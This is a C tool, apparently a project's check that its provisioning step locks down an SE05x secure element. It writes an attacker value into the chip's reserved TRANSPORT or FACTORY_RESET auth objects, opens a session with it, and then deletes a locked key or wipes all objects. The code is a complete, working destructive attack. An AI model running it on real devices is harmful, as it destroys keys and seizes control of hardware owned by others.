/* SPDX-License-Identifier: Apache-2.0 */
/* The raw-APDU attack on the reserved auth objects (docs/production.md
 * "Claim"), as any local client could run it against a chip:
 *   lifecycle_attack CONN transport KEYID [VALUE]   write TRANSPORT 7FFF0200
 *       with our own value ("attacker" or VALUE), open a session with it,
 *       delete KEYID (e.g. a locked key)
 *   lifecycle_attack CONN reset             write FACTORY_RESET 7FFF0205,
 *       open a session with it, DeleteAll
 * Exit 0: the attack SUCCEEDED (the chip is owned); 1: refused somewhere
 * (the step is printed); 2: usage or link error. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <se05x/se05x.h>

static uint8_t mine[16] = {'a', 't', 't', 'a', 'c', 'k', 'e', 'r'};
static size_t mine_len = 8;

static unsigned sw_of(const uint8_t *r, size_t n)
{
    return n >= 2 ? (unsigned)(r[n - 2] << 8 | r[n - 1]) : 0;
}

int main(int argc, char **argv)
{
    if (argc < 3 || (strcmp(argv[2], "transport") == 0 && argc != 4 && argc != 5) ||
        (strcmp(argv[2], "reset") == 0 && argc != 3) ||
        (strcmp(argv[2], "transport") != 0 && strcmp(argv[2], "reset") != 0)) {
        fprintf(stderr, "usage: lifecycle_attack CONN transport KEYID | CONN reset\n");
        return 2;
    }
    bool transport = strcmp(argv[2], "transport") == 0;
    se05x_objid auth = transport ? 0x7FFF0200u : 0x7FFF0205u, key = 0;
    if (transport && se05x_parse_objid(argv[3], &key) != SE05X_OK)
        return 2;
    if (argc == 5) {
        mine_len = strlen(argv[4]);
        if (mine_len < 4 || mine_len > 16)
            return 2;
        memcpy(mine, argv[4], mine_len);
    }
    se05x_session *s = NULL;
    struct se05x_error e;
    if (se05x_open(argv[1], NULL, &s, &e) != SE05X_OK) {
        fprintf(stderr, "attack: cannot open %s: %s\n", argv[1], e.msg);
        return 2;
    }
    uint8_t c[32] = {0x80, 0x41, 0x07, 0x00, (uint8_t)(6 + 2 + mine_len), 0x41, 0x04,
                     (uint8_t)(auth >> 24), (uint8_t)(auth >> 16), (uint8_t)(auth >> 8), (uint8_t)auth,
                     0x42, (uint8_t)mine_len};
    memcpy(c + 13, mine, mine_len);
    uint8_t r[64];
    size_t rl = 0;
    int rc = 1;
    if (se05x_transceive(s, c, 13 + mine_len, r, sizeof r, &rl) != SE05X_OK) {
        rc = 2;
        goto out;
    }
    printf("WriteUserID 0x%08X with the attacker's value: SW %04X\n", auth, sw_of(r, rl));
    if (se05x_auth_open_userid(s, auth, mine, mine_len) != SE05X_OK) {
        printf("session with 0x%08X refused: %s\n", auth, se05x_errmsg(s));
        goto out;
    }
    printf("session with 0x%08X open\n", auth);
    if (transport) {
        se05x_rc d = se05x_delete_object(s, key);
        printf("delete 0x%08X in that session: %s\n", key, d == SE05X_OK ? "done" : se05x_errmsg(s));
        rc = d == SE05X_OK ? 0 : 1;
    } else {
        static const uint8_t all[] = {0x80, 0x04, 0x00, 0x2A, 0x00};
        if (se05x_transceive(s, all, sizeof all, r, sizeof r, &rl) != SE05X_OK) {
            printf("DeleteAll: %s\n", se05x_errmsg(s));
        } else {
            printf("DeleteAll in that session: SW %04X\n", sw_of(r, rl));
            rc = sw_of(r, rl) == 0x9000 ? 0 : 1;
        }
    }
    if (rc == 0)
        printf("ATTACK SUCCEEDED\n");
    (void)se05x_auth_close(s);
out:
    se05x_close(s);
    return rc;
}
